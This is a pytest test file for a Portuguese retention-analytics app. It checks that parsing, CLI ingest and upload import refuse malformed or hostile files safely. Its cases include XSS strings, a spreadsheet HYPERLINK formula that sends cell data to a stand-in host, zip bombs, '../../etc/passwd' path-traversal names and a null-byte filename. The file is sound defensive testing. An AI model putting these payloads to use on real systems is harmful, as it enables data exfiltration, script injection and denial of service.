"""Bad input, one table, three doors: `parse`, `ingest` (CLI) and the Importar upload logic.

Each row is a file users (or attackers) really send: empty, random bytes, truncated workbooks,
documents, PDFs and archives, zip bombs and `../` names inside archives, files over the size
limit, old encodings, forms with every field blank, two statuses, impossible dates, negative or
enormous numbers, HTML/JavaScript and spreadsheet formulas in the notes. Each must give a clear
Portuguese refusal or a record with Portuguese warnings, never a traceback and never a partial
write: the store afterwards is unchanged, or holds the rejected document only, or the case.
"""

from __future__ import annotations

import datetime as dt
import io
import json
import random
import shutil
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from email.message import EmailMessage
from pathlib import Path

import pytest

from forms_factory import form_text, make_record
from msg_factory import outlook_msg
from retention_analytics.cli import main
from retention_analytics.demo import render
from retention_analytics.forms import FormReadError, parse_document, sources
from retention_analytics.forms.template import cell_text, form_grid
from retention_analytics.record import empty_record
from retention_analytics.store import Store, open_store
from retention_analytics.ui import importer

SIZE_LIMIT = 64 * 1024  # MAX_FILE_BYTES during these tests, so "too big" needs no 20 MB file
RNG = random.Random(4)
RANDOM = bytes(RNG.getrandbits(8) for _ in range(5000))
FORM = form_text(make_record())
WORKBOOK = render(make_record(), "xlsx")
DOCUMENT = render(make_record(), "docx")
PDF = render(make_record(), "pdf")
DOC = (Path(__file__).parent / "fixtures" / "converted" / "f0.doc").read_bytes()
ACCENTED = make_record(dentist_name="Clínica São João", city="João Monlevade", analyst="Conceição Araújo")
HOSTILE_NOTE = '<img src=x onerror=alert(1)> =HYPERLINK("http://exemplo.invalid/?d="&A1,"clique")'


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _declare_size(data: bytes, size: int, only: str | None = None) -> bytes:
    """The archive with the uncompressed size its directory declares set to `size` (headers lie)."""
    out = bytearray(data)
    for signature, size_at, name_len_at, name_at in ((b"PK\x01\x02", 24, 28, 46), (b"PK\x03\x04", 22, 26, 30)):
        i = out.find(signature)
        while i >= 0:
            length = int.from_bytes(out[i + name_len_at:i + name_len_at + 2], "little")
            name = out[i + name_at:i + name_at + length].decode("utf-8", "replace")
            if only is None or name == only:
                out[i + size_at:i + size_at + 4] = size.to_bytes(4, "little")
            i = out.find(signature, i + 4)
    return bytes(out)


def _eml(attachments: dict[str, bytes]) -> bytes:
    message = EmailMessage()
    message["From"], message["Subject"], message["Date"] = "a@b.invalid", "Formulários", "Tue, 05 Mar 2024 09:41:07 -0300"
    message.set_content("Seguem.")
    for name, data in attachments.items():
        message.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    return message.as_bytes()


def _msg(attachments: dict[str, bytes]) -> bytes:
    when = dt.datetime(2024, 3, 5, 12, 41, tzinfo=dt.timezone.utc)
    return outlook_msg("Formulários", "Ana Teste", "a@b.invalid", when, attachments)


def _blank_form() -> bytes:
    return "\n".join("\t".join(cell_text(c) for c in row) for row in form_grid(empty_record(""))).encode()


def _ascii_boxes(text: str) -> str:
    return text.replace("☒", "[x]").replace("☐", "[ ]")


@dataclass(frozen=True)
class Bad:
    id: str
    name: str
    data: Callable[[], bytes]
    refused: str | None = None  # Portuguese words of the refusal
    warning: str | None = None  # Portuguese words of a warning of the (stored) record
    check: Callable[[dict], None] | None = None  # more about the record parse returns
    forms: int = 1  # documents the file holds (an archive may hold several)
    bomb_member: str | None = None  # an archive member that must never be inflated
    small_limit: bool = False  # run with MAX_FILE_BYTES = SIZE_LIMIT


def _accents_kept(record: dict) -> None:
    assert record["dentist_name"] == "Clínica São João" and record["city"] == "João Monlevade"


def _note_kept_as_text(record: dict) -> None:
    assert record["general_note"] == HOSTILE_NOTE


CASES = [
    Bad("vazio_xlsx", "vazio.xlsx", lambda: b"", refused="vazio"),
    Bad("vazio_txt", "vazio.txt", lambda: b"  \n\t\n", refused="vazio"),
    Bad("bytes_pdf", "aleatorio.pdf", lambda: RANDOM, refused="PDF está corrompido"),
    Bad("bytes_xlsx", "aleatorio.xlsx", lambda: RANDOM, refused="corrompido ou incompleto"),
    Bad("bytes_docx", "aleatorio.docx", lambda: RANDOM, refused="corrompido ou incompleto"),
    Bad("bytes_txt", "aleatorio.txt", lambda: RANDOM, refused="não é texto"),
    Bad("bytes_sem_extensao", "aleatorio", lambda: RANDOM, refused="Formato não suportado"),
    Bad("bytes_xls", "aleatorio.xls", lambda: RANDOM, refused="corrompida ou não é uma planilha"),
    Bad("bytes_ods", "aleatorio.ods", lambda: RANDOM, refused="corrompida ou não é uma planilha"),
    Bad("ods_que_e_pdf", "disfarcado.ods", lambda: PDF, refused="corrompida ou não é uma planilha"),
    Bad("xlsx_cortado", "cortado.xlsx", lambda: WORKBOOK[: len(WORKBOOK) // 2], refused="corrompido"),
    Bad("docx_cortado", "cortado.docx", lambda: DOCUMENT[: len(DOCUMENT) // 2], refused="corrompido"),
    Bad("pdf_cortado", "cortado.pdf", lambda: PDF[: len(PDF) // 2], refused="corrompido"),
    Bad("xlsx_que_e_pdf", "disfarcado.xlsx", lambda: PDF, refused="corrompido"),
    Bad("zip_cortado", "lote.zip", lambda: _zip({"a.txt": FORM.encode()})[:60], refused=".zip está corrompido"),
    Bad("zip_bomba_taxa", "bomba.zip", lambda: _zip({"bomba.txt": b"\0" * (8 * 1024 * 1024)}),
        refused="compressão suspeita", bomb_member="bomba.txt"),
    Bad("zip_bomba_declarada", "mentira.zip", lambda: _declare_size(_zip({"form.txt": FORM.encode()}), 900_000_000),
        refused="grande demais", bomb_member="form.txt"),
    Bad("zip_bomba_total", "muitos.zip",
        lambda: _declare_size(_zip({f"f{i:02d}.txt": FORM.encode() for i in range(60)}), 19 * 1024 * 1024),
        refused="passaria de 1 GB", bomb_member="f00.txt"),
    Bad("zip_aninhado", "ninho.zip", lambda: _zip({"n1.zip": _zip({"n2.zip": _zip({"a.txt": FORM.encode()})})}),
        refused="não são aceitos"),
    Bad("zip_caminhos", "caminhos.zip",
        lambda: _zip({"../../etc/passwd.txt": form_text(make_record(protocol_number="ZIP-1")).encode(),
                      "/abs/form.txt": form_text(make_record(protocol_number="ZIP-2")).encode()}),
        forms=2),
    # With LibreOffice: it cannot open them; without: it is not installed. Both say "LibreOffice".
    Bad("doc_cortado", "cortado.doc", lambda: DOC[: len(DOC) // 3], refused="LibreOffice"),
    Bad("rtf_que_e_pdf", "disfarcado.rtf", lambda: PDF, refused="LibreOffice"),
    Bad("bytes_png", "aleatorio.png", lambda: RANDOM, refused="corrompida ou não é uma imagem"),
    Bad("jpg_que_e_pdf", "disfarcado.jpg", lambda: PDF, refused="corrompida ou não é uma imagem"),
    Bad("eml_sem_formulario", "sem_anexo.eml", lambda: _eml({"foto.exe": b"MZ"}), refused="não tem formulário anexado"),
    Bad("eml_texto_qualquer", "falso.eml", lambda: "Lista de compras: arroz".encode(), refused="não tem cabeçalhos de e-mail"),
    Bad("eml_dois_formularios", "formularios.eml",
        lambda: _eml({"a.txt": form_text(make_record(protocol_number="EML-1")).encode(),
                      "b.xlsx": render(make_record(protocol_number="EML-2"), "xlsx")}), forms=2),
    Bad("eml_anexo_corrompido", "anexo_ruim.eml", lambda: _eml({"ruim.xlsx": RANDOM}), refused="corrompido"),
    Bad("msg_bytes", "aleatorio.msg", lambda: RANDOM, refused="não é uma mensagem do Outlook"),
    Bad("msg_cortado", "cortado.msg", lambda: _msg({"a.txt": FORM.encode() * 3})[:2000], refused="ler o e-mail .msg"),
    Bad("msg_formulario", "formulario.msg", lambda: _msg({"a.txt": form_text(make_record(protocol_number="MSG-1")).encode()})),
    Bad("grande_demais", "grande.txt", lambda: (FORM + "x" * (SIZE_LIMIT + 10)).encode(), refused="maior que o limite",
        small_limit=True),
    Bad("grande_demais_no_zip", "grande.zip", lambda: _zip({"grande.txt": (FORM + "x" * (SIZE_LIMIT + 10)).encode()}),
        refused="grande demais", small_limit=True, bomb_member="grande.txt"),
    Bad("cp1252", "cp1252.txt", lambda: _ascii_boxes(form_text(ACCENTED)).encode("cp1252"), check=_accents_kept),
    Bad("latin1", "latin1.txt", lambda: _ascii_boxes(form_text(ACCENTED)).encode("latin-1"), check=_accents_kept),
    Bad("utf16", "utf16.txt", lambda: form_text(ACCENTED).encode("utf-16"), check=_accents_kept),
    Bad("csv_cp1252", "planilha.csv",
        lambda: _ascii_boxes(render(ACCENTED, "csv").decode("utf-8-sig")).encode("cp1252"), check=_accents_kept),
    Bad("tudo_em_branco", "em_branco.txt", _blank_form, warning="Campo não preenchido: Operadora"),
    Bad("dois_status", "dois_status.txt",
        lambda: FORM.replace("☐ Retenção Efetiva", "☒ Retenção Efetiva").encode(), warning="mais de uma opção marcada"),
    Bad("data_impossivel", "31_02.txt", lambda: FORM.replace("01/03/2024\t20/03/2024", "31/02/2024\t20/03/2024").encode(),
        warning="31/02/2024 não existe no calendário"),
    Bad("numero_negativo", "negativo.txt", lambda: form_text(make_record(lives=-5)).encode(), warning="valor negativo"),
    Bad("numero_enorme", "enorme.txt",
        lambda: FORM.replace("MG\tJOAO MONLEVADE\t16", "MG\tJOAO MONLEVADE\t99999999999999999999").encode(),
        warning="nº de vidas"),
    Bad("html_e_formula", "notas.txt",
        lambda: form_text(make_record(general_note=HOSTILE_NOTE, contacts=[
            {"number": 1, "date": "2024-03-02", "note": "=1+1 <script>alert(1)</script>"}])).encode(),
        check=_note_kept_as_text),
]
IDS = [c.id for c in CASES]


@pytest.fixture(autouse=True)
def small_size_limit(request, monkeypatch):
    """A 64 KB limit for the rows about size, so "too big" needs no 20 MB file."""
    case = request.node.callspec.params.get("case") if hasattr(request.node, "callspec") else None
    if case is not None and case.small_limit:
        monkeypatch.setattr(sources, "MAX_FILE_BYTES", SIZE_LIMIT)


@pytest.fixture(scope="module")
def seed_db(tmp_path_factory) -> Path:
    store = open_store(tmp_path_factory.mktemp("seed") / "seed.duckdb")
    store.ingest([sources.Document("base.txt", form_text(make_record(protocol_number="BASE-1")).encode())])
    return store.path


@pytest.fixture
def db(seed_db, tmp_path) -> Path:
    path = tmp_path / "bad.duckdb"
    shutil.copy(seed_db, path)
    return path


@pytest.fixture
def opened_members(monkeypatch) -> list[str]:
    """Names of archive members actually inflated (zipfile.ZipFile.open calls)."""
    opened: list[str] = []
    original = zipfile.ZipFile.open

    def spy(self, name, mode="r", *args, **kwargs):
        if mode == "r":  # writestr (building the test archives) opens members for writing
            opened.append(name if isinstance(name, str) else name.filename)
        return original(self, name, mode, *args, **kwargs)

    monkeypatch.setattr(zipfile.ZipFile, "open", spy)
    return opened


def snapshot(db: Path) -> dict[str, int]:
    with Store(db).connect() as con:
        return dict(zip(
            ("documents", "rejected", "cases", "warnings"),
            con.execute("select (select count(*) from documents), "
                        "(select count(*) from documents where status = 'rejected'), "
                        "(select count(*) from cases), (select count(*) from case_warnings)").fetchone(),
        ))


def assert_store_after(case: Bad, before: dict[str, int], after: dict[str, int]) -> None:
    if case.refused:
        # Only the rejected document(s): kept for Qualidade dos dados, no case.
        assert after["cases"] == before["cases"], "no case from a refused file"
        assert after["rejected"] - before["rejected"] == after["documents"] - before["documents"] >= 1
    else:
        assert after["cases"] == before["cases"] + case.forms
        assert after["rejected"] == before["rejected"]
        if case.warning:
            assert after["warnings"] > before["warnings"]


def assert_no_traceback(*texts: str) -> None:
    for text in texts:
        assert "Traceback" not in text and 'File "' not in text, text


@pytest.mark.parametrize("case", CASES, ids=IDS)
def test_parse(case, tmp_path, capsys, opened_members):
    path = tmp_path / Path(case.name).name
    path.write_bytes(case.data())
    code = main(["parse", "--format", "jsonl", str(path)])
    out, err = capsys.readouterr()
    assert_no_traceback(out, err)
    lines = [json.loads(line) for line in out.splitlines()]
    assert len(lines) == (1 if case.refused else case.forms)
    if case.refused:
        assert code == 1
        assert case.refused in lines[0]["error"], lines[0]
    else:
        assert code == 0, lines
        for record in lines:
            if case.warning:
                assert any(case.warning in w for w in record["warnings"]), record["warnings"]
            if case.check:
                case.check(record)
    if case.bomb_member:
        assert case.bomb_member not in opened_members, "refused before inflating"
    if path.suffix not in (".zip", ".eml", ".msg") and path.suffix:  # containers: their members are parsed
        # The parser itself (no CLI): a FormReadError or a record, never anything else.
        try:
            parse_document(case.name, case.data())
        except FormReadError as error:
            assert case.refused and str(error).startswith(case.name)


@pytest.mark.parametrize("case", CASES, ids=IDS)
def test_cli_ingest(case, db, tmp_path, capsys, opened_members):
    folder = tmp_path / "entrada"
    folder.mkdir()
    path = folder / Path(case.name).name
    path.write_bytes(case.data())
    before = snapshot(db)
    code = main(["--db", str(db), "ingest", str(path)])
    out, err = capsys.readouterr()
    assert_no_traceback(out, err)
    assert code == (1 if case.refused else 0), out + err
    if case.refused:
        assert case.refused in out, out
    assert_store_after(case, before, snapshot(db))
    if case.bomb_member:
        assert case.bomb_member not in opened_members
    if case.id == "zip_caminhos":
        with Store(db).connect() as con:
            names = [n for (n,) in con.execute(
                "select file_name from documents where file_name like '%caminhos.zip%'").fetchall()]
        assert sorted(n.split(".zip:")[1] for n in names) == ["abs/form.txt", "etc/passwd.txt"]
        assert not (tmp_path / "etc").exists()


@pytest.mark.parametrize("case", CASES, ids=IDS)
def test_importar_upload(case, db, opened_members):
    store = Store(db)
    before = snapshot(db)
    preview = importer.prepare(store, [importer.Upload(case.name, case.data())])
    frame = preview.frame()  # what the page shows: must build for any input
    assert len(frame) == max(1, case.forms)
    if case.refused:
        assert preview.rejected and all(case.refused in (p.reason or "") for p in preview.rejected), \
            [p.reason for p in preview.rejected]
        assert_no_traceback(*(p.reason or "" for p in preview.rejected))
    else:
        assert not preview.rejected, [p.reason for p in preview.rejected]
        if case.warning:
            assert any(case.warning in w for p in preview.parsed for w in p.warnings)
    assert snapshot(db) == before, "nothing is written before confirming"
    summary = importer.commit(store, preview)
    assert summary.rejected == (len(preview.rejected))
    assert_store_after(case, before, snapshot(db))
    if case.bomb_member:
        assert case.bomb_member not in opened_members


def test_an_upload_name_cannot_climb_out_of_its_folder(db):
    store = Store(db)
    preview = importer.prepare(store, [importer.Upload("../../etc/passwd.xlsx", WORKBOOK),
                                       importer.Upload("<script>alert(1)</script>\x00.txt", FORM.encode())])
    assert [p.name for p in preview.parsed] == ["etc/passwd.xlsx", "<script>alert(1)</script>.txt"]
    importer.commit(store, preview)
    with Store(db).connect() as con:
        names = {n for (n,) in con.execute("select file_name from documents").fetchall()}
    assert "etc/passwd.xlsx" in names and not any(".." in n or "\x00" in n for n in names)


def test_a_write_that_fails_mid_batch_writes_nothing(db, monkeypatch):
    """A batch whose last insert fails: none of it is stored (one transaction)."""
    from retention_analytics.store import StoreError
    from retention_analytics.store import store as store_module

    before = snapshot(db)
    original = store_module._insert_arrow

    def fail_on_warnings(con, table, schema, rows):
        if table == "case_warnings":
            raise RuntimeError("falha simulada no meio do lote")
        return original(con, table, schema, rows)

    monkeypatch.setattr(store_module, "_insert_arrow", fail_on_warnings)
    preview = importer.prepare(Store(db), [importer.Upload(f"f{i}.txt", form_text(make_record(
        protocol_number=f"MID-{i}", lives=-i - 1)).encode()) for i in range(5)])
    with pytest.raises(StoreError, match="nada deste lote foi gravado"):
        importer.commit(Store(db), preview)
    assert snapshot(db) == before
